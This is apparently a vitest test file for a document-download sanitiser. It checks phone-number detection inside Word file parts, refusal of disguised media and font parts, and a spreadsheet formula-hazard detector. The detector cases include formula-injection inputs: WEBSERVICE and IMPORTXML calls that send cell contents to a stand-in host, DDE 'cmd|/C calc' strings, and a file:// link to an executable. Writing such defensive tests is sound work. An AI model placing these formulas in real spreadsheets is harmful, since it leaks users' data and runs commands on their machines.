import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { docxBlocks } from '../../../src/io/downloads/docx-blocks.ts';
import { formulaHazards } from '../../../src/io/downloads/formula-hazards.ts';
import { personalDataIn } from '../../../src/io/downloads/searched-passages.ts';
import { bitmap, docxWith, paragraph } from '../../support/downloads.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006';
const wordNames = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const word = (parts: Readonly<Record<string, string | Uint8Array>>) =>
  docxBlocks(
    new Uint8Array(
      zipSync({
        ...unzipSync(docxWith(paragraph('Biểu mẫu'))),
        ...Object.fromEntries(
          Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part]),
        ),
      }),
    ),
  );
const foundIn = (parts: Readonly<Record<string, string | Uint8Array>>) =>
  [...personalDataIn(word(parts))].map(({ found }) => found.code);
const link = (target: string) => ({
  'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/relationships/hyperlink" Target="${target}" TargetMode="External"/></Relationships>`,
});
const styles = (inside: string) => ({ 'word/styles.xml': `<w:styles ${wordNames}>${inside}</w:styles>` });

describe('a telephone number in a Word file is found', () => {
  test.each<[string, Readonly<Record<string, string | Uint8Array>>]>([
    ['in a part that somebody added', { 'customXml/item1.xml': '<a phone="0912345678"/>' }],
    [
      'in one that calls itself a part of Office',
      { 'customXml/item1.xml': '<a xmlns="http://schemas.microsoft.com/x" phone="so 0912345678"/>' },
    ],
    [
      'in one of a host whose name has that of Office in it',
      { 'word/added.xml': '<a xmlns="http://a.example/microsoft.com/" phone="so 0912345678"/>' },
    ],
    ['in its elements, one after the other', { 'customXml/item1.xml': '<a><b>Me be</b><c>0912345678</c></a>' }],
    ['in the name of an element', { 'customXml/item1.xml': '<a><so0912345678/></a>' }],
    ['in the name of a namespace', { 'customXml/item1.xml': '<a xmlns:x="0912345678"/>' }],
    ['in a remark to programs', styles('<?so 0912345678?>')],
    ['before the first element', { 'word/styles.xml': `<!DOCTYPE w "0912345678"><w:styles ${wordNames}/>` }],
    ['in the name of a style', styles('<w:style><w:name w:val="Mẹ bé An 0912345678"/></w:style>')],
    ['in an attribute that Word does not know', styles('<w:style w:cua="0912 345 678"/>')],
    ['in a link with escapes', link('tel:%2B84912345678')],
    ['in a link with digits as escapes', link('https://zalo.me/%30912345678')],
    [
      'in the font of signs',
      {
        'word/document.xml': `<w:document ${wordNames}><w:body><w:p><w:r><w:rPr><w:rFonts w:ascii="Symbol" w:hAnsi="Symbol"/></w:rPr><w:t>${Array.from('0912345678', (digit) => String.fromCharCode(0xf000 + digit.charCodeAt(0))).join('')}</w:t></w:r></w:p></w:body></w:document>`,
      },
    ],
    [
      'in signs',
      {
        'word/document.xml': `<w:document ${wordNames}><w:body><w:p><w:r>${Array.from('0912345678', (digit) => `<w:sym w:font="Symbol" w:char="F0${digit.charCodeAt(0).toString(16)}"/>`).join('')}</w:r></w:p></w:body></w:document>`,
      },
    ],
    [
      'in settings of a printer',
      {
        'word/printerSettings/printerSettings1.bin': Buffer.from(
          '\u0001\u0000May cua co Lan 0912345678\u0000',
          'utf16le',
        ),
      },
    ],
  ])('%s', (_what, parts) => {
    expect(foundIn(parts)).toContain('so-dien-thoai-rieng');
  });

  test('and nothing in what Word itself writes', () => {
    const own = styles(
      '<w:style w:rsidR="00912345"><w:rFonts w:ascii="Times New Roman"/><w:name w:val="heading 1"/><w:lang w:val="vi-VN"/><w:p w:cx="914400" w:path="m0,0 l10800,21600,0,21600 xe"/></w:style>',
    );
    expect(foundIn(own)).toEqual([]);
    const item = `<ds:datastoreItem ds:itemID="{5D2C1F11-0000-4000-8000-000000000000}" xmlns:ds="${office}/customXml"><ds:schemaRefs/></ds:datastoreItem>`;
    expect(foundIn({ 'customXml/itemProps1.xml': item })).toEqual([]);
  });
});

describe('a part of a Word file that is not what its name says is refused', () => {
  const more = Buffer.from('Em Hoa. '.repeat(50));
  test.each<[string, string, Uint8Array]>([
    ['a bitmap with more after its points', 'word/media/a.bmp', Buffer.concat([bitmap(), more])],
    [
      'a bitmap with more before its points',
      'word/media/a.bmp',
      moved(Buffer.concat([bitmap(), more, more, more, more])),
    ],
    ['an archive as a font', 'word/fonts/font1.odttf', Buffer.concat([Buffer.from('Rar!'), more])],
    ['words as a font', 'word/fonts/font1.odttf', more],
  ])('%s', (_what, name, bytes) => {
    expect(() => word({ [name]: bytes })).toThrow(/dài ngắn sai|không phải phông chữ/u);
  });
  function moved(bytes: Buffer): Buffer {
    bytes.writeUInt32LE(bytes.length - 4, 10);
    return bytes;
  }
});

describe('a formula', () => {
  test.each([
    '_xlfn.WEBSERVICE("http://a.example/?"&B1)',
    '_xlfn._xlws.IMAGE("http://a.example/a.png")',
    'DDE("soffice";"a";"b")',
    'CUBEVALUE("kho","[a]")',
    'IMPORTXML("http://a.example/?"&B2,"//a")',
    'IMPORTDATA("http://a.example/")',
    'cmd|"/C calc"!A0',
    'cmd|calc!A0',
    'HYPERLINK("fi"&"le:///c:/a.exe","x")',
    'HYPERLINK(B1,"x")',
    'HYPERLINK(CONCAT("a"),"x")',
  ])('that asks another program, or makes its address, is refused: %s', (formula) => {
    expect(formulaHazards(formula)).toHaveLength(1);
  });
  test.each([
    '_xlfn.IFS(A1>1,"a | b",TRUE,"c")',
    'HYPERLINK("https://vbpl.vn/","Xem")',
    'HYPERLINK("#"&A1,"Xem")',
    'HYPERLINK("https://vbpl.vn/")',
    'SUM(A1:A2)',
  ])('that counts or leads to a page is not: %s', (formula) => {
    expect(formulaHazards(formula)).toEqual([]);
  });
});
